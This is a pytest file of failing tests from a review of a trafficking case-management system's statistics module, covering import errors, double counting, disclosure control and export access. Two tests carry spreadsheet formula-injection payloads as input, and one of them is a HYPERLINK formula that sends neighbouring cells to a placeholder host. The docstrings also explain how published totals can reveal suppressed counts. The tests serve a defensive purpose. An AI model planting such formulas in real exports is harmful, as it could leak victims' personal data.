"""Review 8 of the statistics capability (issue 8): failing tests for the
problems found. All data synthetic, except the CTDC header line."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from trm.statistics import ctdc, dashboard
from trm.statistics.dashboard import Published
from trm.statistics.disclosure import protect
from trm.statistics.models import HistoricalRecord
from trm.statistics.tables import Period, count_table, protected_table

pytestmark = pytest.mark.django_db

HEADER = (
    "yearOfRegistration,gender,ageBroad,citizenship,isForcedLabour,isSexualExploit,"
    "CountryOfExploitation,nacionalidade_lat,nacionalidade_long,nacionalidade,"
    "pais_exploracao_lat,pais_exploracao_long,pais_exploracao,nacionalidade_alpha3,"
    "pais_exploracao_alpha3"
)
ROW = "2016,Male,9--17,MD,1.0,0.0,RU,,,Moldova,,,Russia,MDA,RUS"


# --- CTDC import: malformed files end in a format error, not a traceback ---------


def test_an_empty_ctdc_file_is_a_format_error(tmp_path: Path) -> None:
    path = tmp_path / "empty.csv"
    path.write_text("")
    with pytest.raises(ctdc.CtdcFormatError):  # today: IndexError (ctdc.py:399)
        ctdc.import_ctdc(actor=None, path=path)


def test_a_huge_ctdc_header_is_a_format_error(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    path.write_text("A" * 200_000 + ",b\n")
    with pytest.raises(ctdc.CtdcFormatError):  # today: _csv.Error (ctdc.py:390)
        ctdc.import_ctdc(actor=None, path=path)


@pytest.mark.parametrize("dataset", ["ctdc", "htcds"])
def test_a_directory_as_path_is_a_command_error(tmp_path: Path, dataset) -> None:
    # today: IsADirectoryError traceback from `trm import ctdc|htcds DIR`
    with pytest.raises(CommandError):
        call_command("import", dataset, str(tmp_path), stdout=io.StringIO())


# --- CTDC import: a corrected file under a new release doubles every count ------


def test_a_corrected_file_under_its_own_release_does_not_double_the_counts(
    tmp_path: Path,
) -> None:
    """docs/ctdc-import.md: "import a changed file under its own release". The
    dashboard and regional tables then count both releases: every person twice."""
    first = tmp_path / "v1.csv"
    first.write_text("\n".join([HEADER, *[ROW] * 20]) + "\n")
    ctdc.import_ctdc(actor=None, path=first, release="2020-04-14")
    corrected = tmp_path / "v2.csv"
    corrected.write_text("\n".join([HEADER, *[ROW] * 20]) + "\n")
    ctdc.import_ctdc(actor=None, path=corrected, release="2020-05-01")

    assert HistoricalRecord.objects.count() == 40
    assert count_table(rows="year").grand_total == 20  # today: 40


# --- Dashboard: mixing public historical data with live cases ------------------


def _live_case(actor, *, opened: int, **fields):
    from trm.cases.models import Case
    from trm.cases.tests.factories import open_case, set_states

    case = open_case(actor, **fields)
    set_states(case, identification="identified")
    Case.objects.filter(pk=case.pk).update(opened_at=datetime(opened, 6, 1, tzinfo=UTC))
    return case


def test_a_small_live_count_is_not_revealed_by_the_all_records_table(caseworker_a):
    """The historical records are a PUBLIC file (CTDC), so anyone knows their exact
    counts. Adding 3 live boys to 20 public ones gives a published 25 on the
    dashboard's "All records" sex × child table: the reader learns that this
    node has between 3 and 7 boys (25 ± 2 - 20) — a count of 1..9 that the
    live-only table suppresses."""
    for i in range(20):
        HistoricalRecord.objects.create(
            source="ctdc",
            release="2020-04-14",
            row_key=f"pub-{i}",
            year_of_registration=2016,
            gender="Masculine",
            age_group="9--17",
            is_child=True,
        )
    for _ in range(3):
        _live_case(
            caseworker_a, opened=2025, gender="Masculine", birth_date=date(2012, 1, 1)
        )
    live = protect(count_table(rows="sex", columns="child", sources=["live"]))
    boys = live.cells[live.rows.index("Masculine")][live.columns.index("child")]
    assert boys.suppressed  # the live-only view hides them

    # What the dashboard publishes for "All records".
    both = protected_table(rows="sex", columns="child", sources=["historical", "live"])
    published = both.cells[both.rows.index("Masculine")][both.columns.index("child")]
    public_exact = 20
    if published.value is not None:
        lowest_live = published.value - 2 - public_exact  # rounding to 5: ±2
        assert lowest_live < 1, (
            f"published {published.value}: the reader knows this node has at "
            f"least {lowest_live} live boys"
        )


# --- Downloads: a label is never a spreadsheet formula --------------------------


def test_an_xlsx_label_is_never_a_formula() -> None:
    from openpyxl import load_workbook

    table = Published(
        code="flows",
        title="t",
        description="d",
        header=("Citizenship", "=1+1", "People"),
        label_columns=2,
        rows=(('=HYPERLINK("http://example.invalid/","x")', "@SUM(1)", 25),),
        total=(),
        series=("People",),
        note="n",
        suppressed_any=False,
    )
    sheet = load_workbook(io.BytesIO(dashboard.to_xlsx(table))).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula"


# --- Dashboard: a node with live cases and no import ----------------------------


def test_live_cases_are_shown_without_any_historical_import(
    caseworker_a, org_a, signed_in
):
    """views.py:62 sets ``any_records`` from HistoricalRecord only, so a node that
    never imported CTDC sees "There are no records to count yet" instead of the
    charts of its own cases."""
    from trm.accounts.models import Role
    from trm.accounts.tests.factories import UserFactory

    for _ in range(12):
        _live_case(caseworker_a, opened=2025, gender="Feminine")
    ncp = UserFactory(
        username="review-ncp", organisation=org_a, roles=[Role.NATIONAL_CONTACT_POINT]
    )
    html = signed_in(ncp).get("/statistics/").content.decode()
    assert "There are no records to count yet" not in html
    assert 'id="chart-trend"' in html


# --- Regional: the same public dataset on every node is summed N times --------


def test_the_regional_table_does_not_count_one_public_dataset_once_per_node(org_a):
    """Each node imports "the CTDC Global Dataset" (README); summing every
    member's count of the SAME public records counted each person once per
    node. Members now answer with their own cases only, and the coordinator
    adds the published datasets once, from its own import."""
    from trm.accounts.models import Role
    from trm.accounts.tests.factories import UserFactory
    from trm.cases.tests.exchange_fakes import apply, make_peer, reply_to
    from trm.exchange.models import OutboxMessage
    from trm.statistics import regional
    from trm.statistics.messages import AGGREGATE_REQUEST, AGGREGATE_RESPONSE
    from trm.statistics.tables import Period

    for i in range(40):
        HistoricalRecord.objects.create(
            source="ctdc", release="2020-04-14", row_key=f"g-{i}", gender="Feminine"
        )
    coordinator = UserFactory(
        username="review-coord",
        organisation=org_a,
        roles=[Role.NATIONAL_CONTACT_POINT],
    )
    make_peer("peer-md", "MD")
    make_peer("peer-ro", "RO")
    sent = regional.regional_table_request(
        actor=coordinator,
        rows="sex",
        columns=None,
        period=Period(),
        peers=["peer-md", "peer-ro"],
        sources=["historical", "live"],
    )
    # Both members hold the same imported global dataset and no case: each
    # answers as the member handler does (its own cases only: nobody).
    same = regional.protected_payload(
        sent.pk, protect(count_table(rows="sex", sources=regional.MEMBER_SOURCES))
    ).model_dump(mode="json")
    for out in OutboxMessage.objects.filter(type=AGGREGATE_REQUEST):
        apply(reply_to(out, AGGREGATE_RESPONSE, same))

    table = regional.regional_table(sent)
    assert table.grand_total.value == 40  # was 80: the dataset counted twice


def test_a_regional_request_without_the_members_cases_is_refused(org_a):
    from trm.accounts.models import Role
    from trm.accounts.tests.factories import UserFactory
    from trm.cases.tests.exchange_fakes import make_peer
    from trm.statistics import regional
    from trm.statistics.errors import InvalidTable

    coordinator = UserFactory(
        username="review-coord2",
        organisation=org_a,
        roles=[Role.NATIONAL_CONTACT_POINT],
    )
    make_peer("peer-md", "MD")
    with pytest.raises(InvalidTable):
        regional.regional_table_request(
            actor=coordinator,
            rows="sex",
            columns=None,
            period=Period(),
            peers=["peer-md"],
            sources=["historical"],
        )


# --- HTCDS: case-level rows for a role without case access --------------------


def test_the_node_administrator_gets_no_case_level_rows(
    caseworker_a, admin_user, signed_in
):
    """htcds_io.EXPORT_ROLES lets the node administrator ("manages users but has
    no access to case data", docs/htcds.md) download one row per case of the
    whole node, without a purpose and without disclosure control: sex, all
    citizenships, age band, child flag, years opened/closed, closure reason and
    every track state (legal, child protection...). On a small node the row of
    "the only Moldovan boy opened in 2025" singles a person out and tells the
    administrator where his proceedings stand."""
    _live_case(
        caseworker_a,
        opened=2025,
        gender="Masculine",
        birth_date=date(2012, 1, 1),
        citizenships=["MD"],
    )
    response = signed_in(admin_user).post(
        "/statistics/htcds/export/", {"format": "csv", "purpose": "", "confirm": "on"}
    )
    rows = response.content.decode().splitlines() if response.status_code == 200 else []
    assert len(rows) <= 1, rows  # today: the header and the boy's row


# --- Dashboard: the exploitation chart's "Total" is not a number of people ----


def test_the_exploitation_total_is_not_more_people_than_there_are():
    """A person exploited in two ways counts once in each type (documented), but
    the chart's last row is labelled "Total" in the "People" column and is the
    sum of the types: on the real CTDC subset 49,085 "people" for 48,773."""
    for i in range(20):
        HistoricalRecord.objects.create(
            source="ctdc",
            release="t",
            row_key=f"both-{i}",
            year_of_registration=2016,
            exploitation_types=["ForcedLabour", "SexualExploitation"],
        )
    people = dashboard.published("trend", period=Period(), sources=["historical"])
    types = dashboard.published("exploitation", period=Period(), sources=["historical"])
    assert people.total[-1] == 20
    assert types.total == () or types.total[-1] == 20  # today: 40 "people"


# --- HTCDS personal CSV: typed text is never a spreadsheet formula -------------


def test_a_personal_csv_cell_never_starts_a_formula():
    """The personal CSV export (opened in a spreadsheet by the national contact
    point) writes names, aliases, places and addresses exactly as typed: a name
    or alias of '=HYPERLINK("https://example.invalid/?"&B2,"x")' becomes a live
    formula (CSV injection, OWASP) that can send the neighbouring cells away."""
    import csv

    from trm.accounts.models import Role
    from trm.accounts.tests.factories import UserFactory
    from trm.cases.tests.factories import open_case
    from trm.statistics import htcds_io

    ncp = UserFactory(roles=[Role.NATIONAL_CONTACT_POINT])
    open_case(
        ncp,
        given_names='=HYPERLINK("https://example.invalid/?"&B2,"x")',
        family_names="+Fictiva",
    )
    export = htcds_io.export_htcds(
        actor=ncp, fmt="csv", include_personal=True, purpose="Review"
    )
    for row in csv.reader(io.StringIO(export.content)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
